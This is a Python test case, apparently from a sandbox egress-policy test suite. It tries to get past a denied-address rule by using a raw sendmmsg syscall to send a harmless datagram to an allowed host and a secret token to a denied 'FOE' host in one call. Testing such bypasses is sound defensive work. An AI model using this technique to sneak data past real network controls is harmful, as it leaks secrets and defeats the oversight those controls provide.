"""UDP: sendmmsg
Sends two datagrams in one call; only the second goes to a denied address.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""
import ctypes
import struct


def attack(at):
    parts, messages = [], b""
    for host, text in ((at.FRIEND, b"harmless"), (at.FOE, at.token)):
        to, content = ctypes.create_string_buffer(at.address4(host, at.PORT)), ctypes.create_string_buffer(text)
        piece = ctypes.create_string_buffer(struct.pack("PL", ctypes.addressof(content), len(text)))
        parts.append((to, content, piece))
        messages += struct.pack("PIxxxxPLPLiIxxxxxxxx", ctypes.addressof(to), 16, ctypes.addressof(piece), 1, 0, 0, 0, 0)[:64]
    sender = at.udp()
    return at.syscall(307, sender.fileno(), messages, 2, 0) == 2
